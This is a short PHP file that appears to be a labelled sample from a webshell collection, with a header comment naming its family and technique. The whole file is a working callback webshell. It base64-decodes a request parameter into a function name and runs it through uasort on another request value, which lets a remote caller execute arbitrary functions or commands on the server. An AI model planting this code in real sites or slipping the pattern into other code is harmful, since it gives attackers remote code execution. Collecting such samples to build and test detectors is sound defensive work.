<?php
/* Family: webshell/callback
 * Style: sort callback named by the request, base64-encoded
 * Trait: uasort over an array holding a request value, the comparison function decoded from another request field
 */
$which = $_REQUEST['w'];
$items = array('x', $_REQUEST['v']);
uasort($items, base64_decode($which));
